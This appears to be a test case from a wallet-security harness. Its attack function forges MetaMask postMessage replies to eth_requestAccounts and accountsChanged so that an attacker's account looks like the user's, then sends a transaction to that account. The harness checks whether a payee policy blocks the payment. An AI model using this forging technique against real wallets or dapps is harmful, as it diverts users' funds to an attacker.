// H17: a forged wallet reply makes the attacker's account look like the user's own, and is then paid.
import { names, reachedWallet } from './logs.mjs';

export default {
  id: 'H17',
  title: 'forged eth_requestAccounts reply by postMessage, then a payment to that account',
  source: 'MetaMask window message stream',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    const forge = (event) => {
      const rpc = event.data?.data?.data;
      if (event.data?.target !== 'metamask-contentscript' || !/^eth_(requestA|a)ccounts$/.test(rpc?.method)) return;
      const data = { name: 'metamask-provider', data: { jsonrpc: '2.0', id: rpc.id, result: [a.EVIL] } };
      window.postMessage({ target: 'metamask-inpage', data }, location.origin);
    };
    window.addEventListener('message', forge, true);
    const accounts = await window.ethereum.request({ method: 'eth_requestAccounts' }).catch((error) => error.code);
    const changed = { jsonrpc: '2.0', method: 'metamask_accountsChanged', params: [a.EVIL] };
    window.postMessage(
      { target: 'metamask-inpage', data: { name: 'metamask-provider', data: changed } },
      location.origin,
    );
    await new Promise((resolve) => setTimeout(resolve, 100));
    window.removeEventListener('message', forge, true);
    const tx = { from: a.USER, to: a.EVIL, value: '0x5' };
    await window.ethereum.request({ method: 'eth_sendTransaction', params: [tx] }).catch((error) => error.code);
    return { accounts };
  },

  async action(a, app) {
    const tx = { from: a.USER, to: a.GOOD, value: '0x5' };
    return app.provider.request({ method: 'eth_sendTransaction', params: [tx] });
  },

  stolen: ({ wallet, attackResult, a }) => reachedWallet(wallet, a.EVIL) || names(attackResult?.accounts, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  violation: (a) => ({ role: 'payee', account: a.EVIL }),
};
